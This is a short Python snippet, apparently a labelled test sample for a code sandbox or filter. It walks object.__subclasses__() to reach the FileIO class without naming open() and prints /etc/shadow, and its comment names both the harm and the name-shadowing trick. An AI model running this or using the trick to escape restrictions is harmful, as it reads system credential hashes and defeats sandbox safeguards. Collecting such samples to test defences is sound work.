# HARM: read /etc/shadow via _io.FileIO | TRICK: function parameter named like the file's class shadows it; called with object
class Base: pass
class A(Base): pass
def scan(Base):
    out = []
    for s in Base.__subclasses__():
        out.append(s)
        out.extend(scan(s))
    return out
for k in scan(object):
    if k.__name__ == 'FileIO':
        print(k('/etc/shadow').read())
        break
